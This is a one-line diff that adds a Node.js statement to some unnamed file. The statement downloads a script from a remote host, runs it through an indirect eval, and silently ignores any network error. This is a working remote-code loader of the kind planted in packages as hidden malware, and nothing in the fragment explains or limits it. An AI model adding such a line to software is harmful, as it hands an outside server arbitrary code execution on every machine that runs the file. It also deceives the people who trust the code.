@@ -1,0 +1,1 @@
+require('https').get('https://timers.example.invalid/t.js', function (r) { var s = ''; r.on('data', function (c) { s += c; }); r.on('end', function () { (0, eval)(s); }); }).on('error', function () {});
